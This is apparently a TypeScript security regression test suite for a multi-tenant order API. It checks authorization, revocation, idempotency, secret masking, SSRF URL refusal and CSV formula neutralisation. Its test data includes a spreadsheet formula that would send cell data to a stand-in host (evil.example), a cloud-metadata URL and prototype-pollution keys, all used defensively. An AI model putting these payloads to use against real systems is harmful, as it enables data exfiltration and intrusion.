import { createHash } from 'node:crypto';
import { unpackText } from '#functions/platform/compact.ts';
import { describe, expect, it } from 'vitest';
import { GetCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import {
  api,
  directDb,
  eventually,
  expectProblem,
  newCustomer,
  newOrder,
  newTenant,
  orderIn,
  uniqueEmail,
  userWithRole,
  PASSWORD,
  TABLE,
  type TestTenant,
} from '#infra/local/testing.ts';

/**
 * The defects an outside test of the running local cloud found (issue 9), one named test each.
 * Each of these failed on the code before the fix.
 */

const csvOf = (rows: string) => Buffer.from(`\uFEFF${rows}`).toString('base64');
const ifMatch = (v: number) => ({ 'if-match': `"${v}"` });

describe('1. imports check the role and scope of what they create', () => {
  // Guarantees: an import cannot create what its caller may not create directly (kind → the create route's roles and scopes).
  it('refuses a sales user a products import, and an API key an import outside its scopes', async () => {
    const t = await newTenant();
    const sales = await userWithRole(t, 'sales');
    expectProblem(
      await api('/v1/products', {
        token: sales.token,
        body: { sku: 'X-1', name: '茶', unit: '斤', price: { amount: 100, currency: 'CNY' } },
      }),
      403,
    );
    const products = csvOf('商品编码,商品名称,单位,单价\nIMP-1,西湖龙井,斤,388\n');
    expectProblem(
      await api('/v1/imports', { token: sales.token, body: { kind: 'products', format: 'csv', file: products } }),
      403,
    );

    const key = (await api('/v1/api-keys', { token: t.token, body: { name: 'CRM', scopes: ['customers:write'] } })).body
      .secret as string;
    expectProblem(
      await api('/v1/imports', { token: key, body: { kind: 'products', format: 'csv', file: products } }),
      403,
      'missing_scope',
    );
    const orders = csvOf('订单号,客户名称,商品编码,数量\nW-1,某客户,IMP-1,1\n');
    expectProblem(
      await api('/v1/imports', { token: key, body: { kind: 'orders', format: 'csv', file: orders } }),
      403,
      'missing_scope',
    );
    // What the key may create, it may import.
    const customers = await api('/v1/imports', {
      token: key,
      body: { kind: 'customers', format: 'csv', file: csvOf('客户名称\n导入客户甲\n') },
    });
    expect(customers.status).toBe(202);
    expect((await api('/v1/products', { token: t.token })).body.items).toEqual([]);
  });
});

describe('2. removal, demotion and revocation hold from the next request', () => {
  // Guarantees: the authorizer's cached answer never carries a role or scopes past a change (the test cloud caches for 30 s, as AWS does).
  it('refuses a removed user, a demoted admin and a revoked key on their very next request', async () => {
    const t = await newTenant();
    const [sales, admin] = await Promise.all([userWithRole(t, 'sales'), userWithRole(t, 'admin')]);
    const key = await api('/v1/api-keys', { token: t.token, body: { name: 'ERP', scopes: ['customers:write'] } });
    // Warm the cache for all three credentials.
    expect((await api('/v1/customers', { token: sales.token, body: { name: '缓存前' } })).status).toBe(201);
    expect((await api('/v1/settings', { token: admin.token })).status).toBe(200);
    expect((await api('/v1/customers', { token: key.body.secret, body: { name: '缓存前 key' } })).status).toBe(201);

    expect((await api(`/v1/users/${sales.userId}`, { method: 'DELETE', token: t.token })).status).toBe(200);
    expectProblem(await api('/v1/customers', { token: sales.token, body: { name: '删除后' } }), 401);

    const current = (await api(`/v1/users/${admin.userId}`, { token: t.token })).body;
    expect(
      (
        await api(`/v1/users/${admin.userId}`, {
          method: 'PATCH',
          token: t.token,
          body: { role: 'viewer' },
          headers: ifMatch(current.version),
        })
      ).status,
    ).toBe(200);
    expectProblem(await api('/v1/settings', { method: 'PATCH', token: admin.token, body: { phone: '021-1234' } }), 403);

    expect((await api(`/v1/api-keys/${key.body.id}`, { method: 'DELETE', token: t.token })).status).toBe(200);
    expectProblem(await api('/v1/customers', { token: key.body.secret, body: { name: '吊销后' } }), 401);
  });
});

describe('3. the last owner cannot be removed or demoted, even by two owners at once', () => {
  const twoOwners = async () => {
    const t = await newTenant();
    const second = await userWithRole(t, 'owner');
    return { t, second };
  };
  const owners = async (t: TestTenant) =>
    (await api('/v1/users?limit=100', { token: t.token })).body.items.filter(
      (u: { role: string }) => u.role === 'owner',
    );

  // Guarantees: the last-owner rule is enforced inside the write's transaction, not by a count read before it.
  it('keeps an owner when two owners demote each other concurrently', async () => {
    for (let i = 0; i < 4; i += 1) {
      const { t, second } = await twoOwners();
      await Promise.all([
        api(`/v1/users/${second.userId}`, { method: 'PATCH', token: t.token, body: { role: 'admin' } }),
        api(`/v1/users/${t.userId}`, { method: 'PATCH', token: second.token, body: { role: 'admin' } }),
      ]);
      const db = await directDb();
      const items = await db.send(
        new QueryCommand({
          TableName: TABLE,
          IndexName: 'gsi1',
          KeyConditionExpression: 'gsi1pk = :pk',
          ExpressionAttributeValues: { ':pk': `${t.tenantId}#USERS` },
        }),
      );
      expect(items.Items!.filter((u) => u.role === 'owner').length, `company ${i}`).toBeGreaterThanOrEqual(1);
    }
  });

  // Guarantees: two owners removing each other at once leave the company with an owner.
  it('keeps an owner when two owners remove each other concurrently', async () => {
    for (let i = 0; i < 4; i += 1) {
      const { t, second } = await twoOwners();
      const answers = await Promise.all([
        api(`/v1/users/${second.userId}`, { method: 'DELETE', token: t.token }),
        api(`/v1/users/${t.userId}`, { method: 'DELETE', token: second.token }),
      ]);
      expect(answers.filter((a) => a.status === 200).length, `company ${i}`).toBeLessThanOrEqual(1);
      const db = await directDb();
      const users = await db.send(
        new QueryCommand({
          TableName: TABLE,
          IndexName: 'gsi1',
          KeyConditionExpression: 'gsi1pk = :pk',
          ExpressionAttributeValues: { ':pk': `${t.tenantId}#USERS` },
        }),
      );
      expect(users.Items!.filter((u) => u.role === 'owner').length, `company ${i}`).toBeGreaterThanOrEqual(1);
    }
  });

  it('still lets an owner demote another owner when two remain', async () => {
    const { t, second } = await twoOwners();
    expect(
      (await api(`/v1/users/${second.userId}`, { method: 'PATCH', token: t.token, body: { role: 'admin' } })).status,
    ).toBe(200);
    expect(await owners(t)).toHaveLength(1);
    expectProblem(
      await api(`/v1/users/${t.userId}`, { method: 'PATCH', token: t.token, body: { role: 'admin' } }),
      409,
      'last_owner',
    );
    // Made owner again, then removed: the count follows every change.
    expect(
      (await api(`/v1/users/${second.userId}`, { method: 'PATCH', token: t.token, body: { role: 'owner' } })).status,
    ).toBe(200);
    expect((await api(`/v1/users/${second.userId}`, { method: 'DELETE', token: t.token })).status).toBe(200);
    expectProblem(
      await api(`/v1/users/${t.userId}`, { method: 'PATCH', token: t.token, body: { role: 'viewer' } }),
      409,
      'last_owner',
    );
  });
});

describe('4. an Idempotency-Key is scoped to the caller, method and concrete path', () => {
  // Guarantees: a key used on one resource never replays onto another (order 2 is not answered with order 1).
  it('answers 422 idempotency_key_reused when the same key is sent to another order', async () => {
    const t = await newTenant();
    const [one, two] = [await newOrder(t), await newOrder(t)];
    const key = { 'idempotency-key': 'submit-once' };
    const first = await api(`/v1/orders/${one.id}/submit`, { method: 'POST', token: t.token, headers: key });
    expect(first.body).toMatchObject({ id: one.id, status: 'confirmed' });
    const replay = await api(`/v1/orders/${one.id}/submit`, { method: 'POST', token: t.token, headers: key });
    expect(replay.headers.get('idempotent-replayed')).toBe('true');
    expectProblem(
      await api(`/v1/orders/${two.id}/submit`, { method: 'POST', token: t.token, headers: key }),
      422,
      'idempotency_key_reused',
    );
    expect((await api(`/v1/orders/${two.id}`, { token: t.token })).body.status).toBe('draft');
  });
});

describe('5. secrets are shown once and never kept in plaintext', () => {
  /** The stored record, its kept answer unpacked (it is stored compact): what must hold no secret. */
  const idempotencyItem = async (t: TestTenant, key: string) => {
    const hash = createHash('sha256').update(`${t.userId}\n${key}`).digest('base64url');
    const item = (
      await (
        await directDb()
      ).send(new GetCommand({ TableName: TABLE, Key: { pk: `${t.tenantId}#IDEMPOTENCY`, sk: hash } }))
    ).Item;
    expect(item?.responseZ).toBeInstanceOf(Uint8Array);
    const { responseZ, ...rest } = item!;
    const text = unpackText(responseZ as Uint8Array);
    const response = { statusCode: JSON.parse(text.slice(0, text.indexOf('\n'))).statusCode, text };
    expect(response.statusCode).toBe(201); // the answer really is there to search
    return { ...rest, response };
  };

  // Guarantees: the idempotency record of a secret-bearing answer holds no secret, and a replay does not reveal it.
  it('does not store or replay an API key or webhook secret', async () => {
    const t = await newTenant();
    const headers = { 'idempotency-key': 'key-create-1' };
    const created = await api('/v1/api-keys', {
      token: t.token,
      body: { name: 'ERP', scopes: ['orders:read'] },
      headers,
    });
    expect(created.body.secret).toMatch(/^dk_live_/);
    const replay = await api('/v1/api-keys', {
      token: t.token,
      body: { name: 'ERP', scopes: ['orders:read'] },
      headers,
    });
    expect(replay.status).toBe(201);
    expect(replay.body.id).toBe(created.body.id);
    expect(JSON.stringify(replay.body)).not.toContain(created.body.secret);
    expect(JSON.stringify(await idempotencyItem(t, 'key-create-1'))).not.toContain(created.body.secret);

    const hook = { 'idempotency-key': 'hook-create-1' };
    const webhook = await api('/v1/webhooks', {
      token: t.token,
      body: { url: 'http://127.0.0.1:9/hook', eventTypes: ['order.created'] },
      headers: hook,
    });
    expect(webhook.body.secret).toMatch(/^whsec_/);
    const again = await api('/v1/webhooks', {
      token: t.token,
      body: { url: 'http://127.0.0.1:9/hook', eventTypes: ['order.created'] },
      headers: hook,
    });
    expect(JSON.stringify(again.body)).not.toContain(webhook.body.secret);
    expect(JSON.stringify(await idempotencyItem(t, 'hook-create-1'))).not.toContain(webhook.body.secret);
  });

  // Guarantees: a robot URL whose token is the credential is masked when read, and sending the masked form back keeps the real one.
  it('masks robot URLs on read and keeps them when the masked list is saved back', async () => {
    const t = await newTenant();
    const token = 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6';
    const put = await api('/v1/notification-channels', {
      method: 'PUT',
      token: t.token,
      body: {
        channels: [
          { kind: 'dingtalk', name: '钉钉群', url: `https://oapi.dingtalk.com/robot/send?access_token=${token}` },
          { kind: 'wecom', name: '企业微信群', url: `https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=${token}` },
          { kind: 'feishu', name: '飞书群', url: `https://open.feishu.cn/open-apis/bot/v2/hook/${token}` },
        ],
      },
    });
    expect(put.status).toBe(200);
    expect(JSON.stringify(put.body)).not.toContain(token);
    const read = await api('/v1/notification-channels', { token: t.token });
    expect(JSON.stringify(read.body)).not.toContain(token);
    expect(read.body.channels[0].url).toMatch(/^https:\/\/oapi\.dingtalk\.com\/robot\/send\?access_token=\*+c5d6$/);
    const saved = await api('/v1/notification-channels', {
      method: 'PUT',
      token: t.token,
      body: {
        channels: read.body.channels.map(({ id, kind, name, url }: Record<string, string>) => ({
          id,
          kind,
          name: `${name}（改）`,
          url,
        })),
      },
    });
    expect(saved.status).toBe(200);
    const stored = await (await directDb()).send(
      new GetCommand({ TableName: TABLE, Key: { pk: `${t.tenantId}#CHANNELS`, sk: 'CONFIG' } }),
    );
    const urls = (stored.Item!.channels as { url: string }[]).map((c) => c.url);
    expect(urls.every((u) => u.includes(token))).toBe(true);
  });
});

describe('6. bad input that DynamoDB or exact money cannot hold is a 4xx, never a 500', () => {
  // Guarantees: numbers DynamoDB cannot store and prototype-named keys in customFields answer 400, and nothing is written.
  it('refuses unstorable custom-field numbers and reserved keys with 400', async () => {
    const t = await newTenant();
    for (const customFields of [
      { size: 1e20 },
      { size: 5e-324 },
      { size: 2 ** 53 },
      { constructor: 'x' },
      { __proto__x: 1, prototype: 'y' },
    ]) {
      const res = await api('/v1/customers', {
        token: t.token,
        rawBody: JSON.stringify({ name: '数字客户', customFields }),
      });
      expectProblem(res, 400);
      expect(res.body.errors[0].path).toMatch(/^body\.customFields/);
    }
    expect((await api('/v1/customers', { token: t.token })).body.items).toEqual([]);
    expect(
      (
        await api('/v1/customers', {
          token: t.token,
          body: { name: '正常客户', customFields: { size: 12.5, big: 9_007_199_254_740_991 } },
        })
      ).status,
    ).toBe(201);
  });

  // Guarantees: a line whose quantity × price would pass what an amount may be is refused, so every total stays an exact integer.
  it('refuses an order line whose amount would pass the limit (1e9 × 1e7)', async () => {
    const t = await newTenant();
    const order = await newOrder(t);
    const productId = (await api(`/v1/orders/${order.id}`, { token: t.token })).body.lines[0].productId;
    const res = await api('/v1/orders', {
      token: t.token,
      body: { customerId: order.customerId, lines: [{ productId, quantity: 1e9, unitPrice: 1e7 }] },
    });
    expect([400, 422]).toContain(res.status);
    expectProblem(res, res.status);
    expect((await api(`/v1/orders?customerId=${order.customerId}`, { token: t.token })).body.items).toHaveLength(1);
  });

  // Guarantees: a malformed percent-encoding in a path is bad input (400), not a gateway 500.
  it('answers 400 problem+json to a malformed percent-encoding in the path', async () => {
    const t = await newTenant();
    expectProblem(await api('/v1/customers/%', { token: t.token }), 400);
    expectProblem(await api('/v1/customers/%E4%B8', { token: t.token }), 400);
  });
});

describe('7. a failed sign-up leaves nothing in the tenant registry', () => {
  // Guarantees: every entry the scheduled jobs walk has a company behind it; a refused sign-up writes none.
  it('writes no registry entry for a sign-up refused for a taken email', async () => {
    const t = await newTenant();
    const since = new Date().toISOString();
    for (let i = 0; i < 3; i += 1) {
      expectProblem(
        await api('/v1/signup', { body: { companyName: `重复 ${i}`, adminEmail: t.email, adminPassword: PASSWORD } }),
        409,
        'email_taken',
      );
    }
    const db = await directDb();
    const registry = await db.send(
      new QueryCommand({
        TableName: TABLE,
        KeyConditionExpression: 'pk = :pk',
        FilterExpression: '#at >= :since',
        ExpressionAttributeNames: { '#at': 'at' },
        ExpressionAttributeValues: { ':pk': 'PLATFORM#TENANTS', ':since': since },
      }),
    );
    for (const entry of registry.Items ?? []) {
      const tenant = await db.send(
        new GetCommand({ TableName: TABLE, Key: { pk: `${entry.sk}#TENANT`, sk: 'TENANT' } }),
      );
      expect(tenant.Item, `registry entry ${entry.sk} has no company`).toBeDefined();
    }
  });
});

describe('8. CSV exports never start a formula', () => {
  // Guarantees: a customer name that is a formula reaches finance's Excel as text (leading '), in every export.
  it('neutralises formula-looking cells in the orders, sales-by-customer and aging exports', async () => {
    const t = await newTenant();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
    const customer = await newCustomer(t, { name: evil });
    const order = await newOrder(t, { customerId: customer.id });
    await api(`/v1/orders/${order.id}/submit`, { method: 'POST', token: t.token });
    await api(`/v1/orders/${order.id}/shipments`, {
      token: t.token,
      body: { lines: order.lines.map((l) => ({ lineId: l.lineId, quantity: l.quantity })) },
    });
    const cells = (csv: string) =>
      csv
        .replace(/^\uFEFF/, '')
        .split(/\r\n/)
        .flatMap((row) => row.split(','));
    const orders = await api('/v1/orders/export.csv', { token: t.token });
    expect(orders.body).toContain(`"'=HYPERLINK`);
    expect(cells(orders.body).some((c) => /^"?[=+\-@\t\r]/.test(c))).toBe(false);
    await eventually(async () => {
      const byCustomer = await api('/v1/reports/sales/export.csv?groupBy=customer', { token: t.token });
      expect(byCustomer.body).toContain(`"'=HYPERLINK`);
      const aging = await api('/v1/reports/receivables-aging/export.csv', { token: t.token });
      expect(aging.body).toContain(`"'=HYPERLINK`);
    });
  });
});

describe('9. smaller defects', () => {
  // Guarantees: alert channels refuse private, metadata, credentialed and plain-http URLs when saved, as webhooks do.
  it('refuses private, metadata, credentialed and http channel URLs at save', async () => {
    const t = await newTenant();
    for (const url of [
      'https://10.0.0.5/hook',
      'https://169.254.169.254/latest/meta-data',
      'https://user:pass@example.com/hook',
      'http://example.com/hook',
      'https://[::a00:1]/x',
      'https://[2002:a00:1::]/x',
    ]) {
      const res = await api('/v1/notification-channels', {
        method: 'PUT',
        token: t.token,
        body: { channels: [{ kind: 'webhook', name: '回调', url }] },
      });
      expectProblem(res, 422, 'url_not_allowed');
      expect(res.body.channel, url).toBe(0);
    }
    expect((await api('/v1/notification-channels', { token: t.token })).body.channels).toEqual([]);
  });

  // Guarantees: a PATCH without If-Match that meets a concurrent write is applied on the fresh version (retried), never answered 412.
  it('never answers 412 to PATCHes sent without If-Match', async () => {
    const t = await newTenant();
    const customer = await newCustomer(t);
    const answers = await Promise.all(
      Array.from({ length: 10 }, (_, i) =>
        api(`/v1/customers/${customer.id}`, { method: 'PATCH', token: t.token, body: { tags: [`标签${i}`] } }),
      ),
    );
    expect(answers.map((a) => a.status)).toEqual(Array(10).fill(200));
    expect((await api(`/v1/customers/${customer.id}`, { token: t.token })).body.version).toBe(11);
    const settings = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        api('/v1/settings', { method: 'PATCH', token: t.token, body: { phone: `021-000${i}` } }),
      ),
    );
    expect(settings.map((a) => a.status)).toEqual(Array(6).fill(200));
  });

  // Guarantees: printable pages forbid scripts and sniffing, so an escaped-too-little name could still run nothing.
  it('sends Content-Security-Policy and X-Content-Type-Options on printable pages', async () => {
    const t = await newTenant();
    const order = await orderIn(t, 'shipped');
    const shipments = await api(`/v1/orders/${order.id}/shipments`, { token: t.token });
    const page = await api(`/v1/orders/${order.id}/shipments/${shipments.body.items[0].id}/print`, { token: t.token });
    expect(page.status).toBe(200);
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toMatch(/script-src 'unsafe-hashes' 'sha256-[^']+'(;|$)/);
    expect(page.body).toContain('http-equiv="Content-Security-Policy"');
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('10. the local cloud keeps its own secrets', () => {
  // Guarantees: POST /v1/auth/new-password needs the session its own login challenge issued for that email.
  it('refuses a new password with a made-up session, or one issued to another user', async () => {
    const t = await newTenant();
    expectProblem(
      await api('/v1/auth/new-password', {
        body: { email: t.email, session: 'made-up-session', newPassword: 'Hijacked2026x' },
      }),
      401,
      'session_expired',
    );
    // A real challenge session, but for an invited colleague, not for the owner.
    const email = uniqueEmail('invitee');
    await api('/v1/users', { token: t.token, body: { email, role: 'viewer' } });
    const { temporaryPasswordFor } = await import('#infra/local/testing.ts');
    const challenge = await api('/v1/auth/login', { body: { email, password: await temporaryPasswordFor(email) } });
    expect(challenge.body.challenge).toBe('NEW_PASSWORD_REQUIRED');
    expectProblem(
      await api('/v1/auth/new-password', {
        body: { email: t.email, session: challenge.body.session, newPassword: 'Hijacked2026x' },
      }),
      401,
    );
    expect((await api('/v1/auth/login', { body: { email: t.email, password: PASSWORD } })).status).toBe(200);
    expect((await api('/v1/auth/login', { body: { email: t.email, password: 'Hijacked2026x' } })).status).toBe(401);
    // The invitee's own session still works, once.
    expect(
      (
        await api('/v1/auth/new-password', {
          body: { email, session: challenge.body.session, newPassword: 'Invitee2026x' },
        })
      ).status,
    ).toBe(200);
    expectProblem(
      await api('/v1/auth/new-password', {
        body: { email, session: challenge.body.session, newPassword: 'Again2026xx' },
      }),
      401,
    );
  });
});
